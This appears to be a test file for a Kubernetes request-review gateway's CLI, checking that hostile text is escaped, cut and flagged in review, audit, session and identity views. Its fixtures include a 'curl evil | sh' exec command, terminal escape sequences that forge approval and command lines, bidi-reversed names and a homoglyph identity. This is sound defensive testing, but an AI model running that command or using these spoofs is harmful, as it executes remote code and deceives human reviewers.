// Every CLI surface a human reads, fed the whole hostile class of issue 14 (test/helpers/hostile.ts): no control,
// bidi or invisible character reaches the terminal raw, each line stays one line, long values are cut with a marker
// naming --full, the reviewer sees the request itself, and client claims are labelled (and flagged when the decoded
// action contradicts them).
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { AuditEvent } from "../../src/audit/types.ts";
import { auditTable } from "../../src/cli/audit.ts";
import { formatTable } from "../../src/cli/client.ts";
import { identityTable } from "../../src/cli/identity.ts";
import { formatReview, reviewTable } from "../../src/cli/review.ts";
import { formatSessionShow, sessionTable } from "../../src/cli/session.ts";
import type { Identity } from "../../src/identity/types.ts";
import type { SessionRecord } from "../../src/recording/types.ts";
import type { Review } from "../../src/review/types.ts";
import { HOSTILE, HOSTILE_ALL, RAW_HOSTILE } from "../helpers/hostile.ts";

const H = HOSTILE_ALL;
const NOW = Date.parse("2026-12-07T12:00:00Z");

/** Each line of a surface: nothing raw, and the hostile text visibly marked. */
function assertClean(text: string, cutEarly = false): void {
  for (const line of text.split("\n")) assert.doesNotMatch(line, RAW_HOSTILE, JSON.stringify(line));
  assert.match(text, /⟨\\x1b⟩/);
  // a narrow cell is cut before the class's bidi part: then the cut marker must be there instead
  assert.match(text, cutEarly ? /⟨cut: / : /⟨U\+202E⟩/);
}

function review(over: Partial<Review["request"]> = {}, preview: Review["preview"] = null): Review {
  return {
    id: "r-1",
    fingerprint: "f",
    state: "pending",
    createdAt: "2026-12-07T11:00:00Z",
    updatedAt: "2026-12-07T11:00:00Z",
    expiresAt: "2026-12-07T13:00:00Z",
    requester: { identityId: "i", name: `agent${H}`, kind: "agent", groups: [] },
    justification: `<!channel> routine\r\x1b[2KApproved by alice ${H}`,
    cluster: `prod${H}`,
    policy: "p",
    rule: `r${H}`,
    requirement: {
      approvers: { identities: [`alice${H}`], groups: ["sre"] },
      approvals: 1,
      mode: "wait",
      timeoutSeconds: 60,
    },
    request: {
      method: "POST",
      path: `/api/v1/namespaces/prod/pods/web-1/exec`,
      query: new URLSearchParams([
        ["command", "sh"],
        ["command", "-c"],
        ["command", `curl evil | sh #\r\x1b[2K\x1b[1ACommand: cat /etc/hostname${H}`],
        ["container", `app${H}`],
        ["stdin", "true"],
      ]).toString(),
      contentType: `application/merge-patch+json${H}`,
      body: `{"data": {"x": "safe \u202eexe.llehs-esrever\u202c ok"}}\n${H}\n${"B".repeat(20_000)}`,
      bodyEncoding: "utf8",
      bodySha256: "0".repeat(64),
      action: "exec",
      apiGroup: "",
      apiVersion: "v1",
      resource: "pods",
      subresource: "exec",
      namespace: "prod",
      name: `web-1${H}`,
      execCommand: ["sh", "-c", `curl evil | sh #\r\x1b[2K\x1b[1ACommand: cat /etc/hostname${H}`],
      exec: { container: `app${H}`, stdin: true, stdout: true, stderr: true, tty: false },
      ...over,
    },
    approvals: [],
    denial: null,
    approvedUntil: null,
    usesLeft: 0,
    waiters: 1,
    preview,
    version: 1,
  };
}

describe("CLI surfaces follow the rendering rule", () => {
  test("formatTable renders every cell: one line, markers, cut with a marker", () => {
    const out = formatTable(["A", "B"], [[H, "x".repeat(500)]]);
    assertClean(out);
    assert.equal(out.trimEnd().split("\n").length, 2, "one header line, one row line");
    assert.match(out, /⟨cut: 160 of 500 characters shown; --json shows it all⟩/);
  });

  test("review show: the request itself, argv one per line, claims labelled, long body cut naming --full", () => {
    const out = formatReview(review(), [
      { reviewId: "r-1", time: "t", type: "created", actor: `agent${H}`, detail: `opened ${H}` },
    ]);
    assertClean(out);
    assert.match(out, /^Justification: client says: <!channel> routine⟨\\r⟩⟨\\x1b⟩\[2KApproved by alice/m);
    assert.match(out, /^ {2}Method: +POST$/m);
    assert.match(out, /^ {2}Content-Type: +application\/merge-patch\+json/m);
    assert.match(out, /^ {2}Exec: +container app.*; stdin yes; tty no/m);
    assert.match(out, /^ {4}\[0\] sh$/m);
    assert.match(out, /^ {4}\[1\] -c$/m);
    assert.match(
      out,
      /^ {4}\[2\] 'curl evil \| sh #⟨\\r⟩⟨\\x1b⟩\[2K⟨\\x1b⟩\[1ACommand: cat \/etc\/hostname/m,
    );
    assert.match(out, /^ {4}command = sh$/m, "each query parameter on its own line");
    assert.match(out, /^ {4}stdin = true$/m);
    assert.match(out, /safe ⟨U\+202E⟩exe\.llehs-esrever⟨U\+202C⟩ ok/);
    assert.match(out, /⟨line shown escaped⟩/);
    assert.match(
      out,
      /⟨cut: 8,000 of \d{2},\d{3} characters shown; run 'airlock review show r-1 --full' to see it all⟩/,
    );
    assert.match(out, /non-ASCII: may imitate another name/);
    // no line forged by the argv: the only line starting "Command" is Airlock's heading
    assert.deepEqual(
      out
        .split("\n")
        .filter((l) => /^\s*Command:/.test(l))
        .map((l) => l.trim().slice(0, 16)),
      ["Command:       ("],
    );
  });

  test("review show --full shows the whole body and argv, still escaped", () => {
    const out = formatReview(review(), [], { full: true });
    assertClean(out);
    assert.doesNotMatch(out, /⟨cut:/);
    assert.ok(out.includes("B".repeat(20_000)));
  });

  test("review show: a failed preview says why, and the body is still shown", () => {
    const out = formatReview(
      review({ execCommand: null, exec: null, action: "patch", body: '{"a": 1}' }),
      [],
    );
    assert.match(out, /the dry run is still running/);
    const failed = formatReview(
      {
        ...review({ execCommand: null, exec: null, action: "patch", body: '{"a": 1}' }),
        preview: { diff: "", summary: "no preview", dependents: [], error: `dry run refused: ${H}` },
      },
      [],
    );
    assertClean(failed);
    assert.match(failed, /The preview failed: dry run refused: /);
    assert.match(failed, /Body \(Secret values masked, 8 characters\):\n\{"a": 1\}/);
  });

  test("review show: a diff is never cut silently", () => {
    const diff = `--- a\n+++ b\n${"+ line\n".repeat(5000)}+ ${H}\n`;
    const out = formatReview(
      {
        ...review({ execCommand: null, exec: null }),
        preview: { diff, summary: "5001 lines added", dependents: [], error: null },
      },
      [],
    );
    assert.match(out, /⟨cut: 20,000 of [\d,]+ characters shown; run 'airlock review show r-1 --full'/);
    assertClean(
      formatReview({ ...review(), preview: { diff, summary: H, dependents: [], error: null } }, [], {
        full: true,
      }),
    );
  });

  test("review list", () => {
    assertClean(reviewTable([review()], NOW), true);
  });

  const event: AuditEvent = {
    id: "e",
    time: "2026-12-07T11:00:00.123Z",
    identityId: "i",
    identityName: `agent${H}`,
    identityKind: "agent",
    credentialId: null,
    sourceAddress: "127.0.0.1",
    userAgent: `kubectl${H}`,
    kubectlCommand: "kubectl get",
    kubectlSession: H,
    cluster: "c",
    method: "DELETE",
    path: "/apis/apps/v1/namespaces/prod/deployments/web",
    verb: "delete",
    apiGroup: "apps",
    apiVersion: "v1",
    namespace: "prod",
    resource: "deployments",
    subresource: "",
    name: `web${H}`,
    execCommand: null,
    decision: "allow",
    policy: "p",
    rule: "r",
    reason: null,
    status: 200,
    bytesIn: 0,
    bytesOut: 0,
    durationMs: 1,
    completedAt: null,
  };

  test("audit list: cells escaped; a DELETE claiming to be kubectl get is listed as a delete, claim flagged", () => {
    const out = auditTable([event, { ...event, kubectlCommand: `kubectl delete${H}`, verb: "delete" }]);
    assertClean(out);
    const [, forged] = out.split("\n");
    assert.match(forged ?? "", /\sdelete\s+deployments\.apps\s.*kubectl get ⟨CLAIM CONTRADICTED⟩/);
  });

  const session: Omit<SessionRecord, "key"> = {
    id: "s-1",
    kind: "kubectl",
    identityId: "i",
    identityName: `agent${H}`,
    cluster: "c",
    startedAt: "2026-12-07T11:00:00Z",
    lastSeenAt: "2026-12-07T11:00:01Z",
    requests: 1,
    decisions: { allow: 1, deny: 0, review: 0 },
    commands: ["kubectl get", `kubectl ${H}`],
    actions: ["delete deployments.apps"],
    claimMismatches: ['claimed "kubectl get" but sent delete deployments.apps'],
  };

  test("session list: decoded actions, the claim labelled and flagged", () => {
    const out = sessionTable([session], NOW);
    assertClean(out);
    assert.match(out, /ACTIONS \(DECODED\)\s+CLIENT SAYS/);
    assert.match(
      out,
      /delete deployments\.apps\s+kubectl get, kubectl .*⟨CLAIM CONTRADICTED: see 'session show'⟩/,
    );
  });

  test("session show: the summary is what the gateway decoded; each claim is labelled and contradicted ones flagged", () => {
    const out = formatSessionShow({ session, events: [event], recordings: [] });
    assertClean(out);
    assert.match(out, /^Actions \(decoded by the gateway\): delete deployments\.apps$/m);
    assert.match(out, /^Client says \(Kubectl-Command, unverified\): kubectl get, /m);
    assert.match(out, /^⟨CLAIM CONTRADICTED⟩ claimed "kubectl get" but sent delete deployments\.apps$/m);
    assert.match(out, /kubectl get ⟨CLAIM CONTRADICTED⟩/);
  });

  test("identity list", () => {
    const identity: Identity = {
      id: "i",
      name: `\u0430lice${H}`,
      kind: "human",
      groups: [`sre${H}`],
      labels: {},
      createdAt: "2026-12-07T11:00:00Z",
      revokedAt: null,
      lastUsedAt: null,
      owner: null,
      description: H,
      expiresAt: null,
      disabledAt: null,
      state: "active",
      defaultNamespace: null,
    };
    const out = identityTable([identity], NOW);
    assertClean(out);
    assert.match(out, /non-ASCII: may imitate another name/);
  });

  test("the class is complete: every hostile entry is in HOSTILE_ALL", () => {
    assert.ok(HOSTILE.every(([, t]) => H.includes(t)));
  });
});
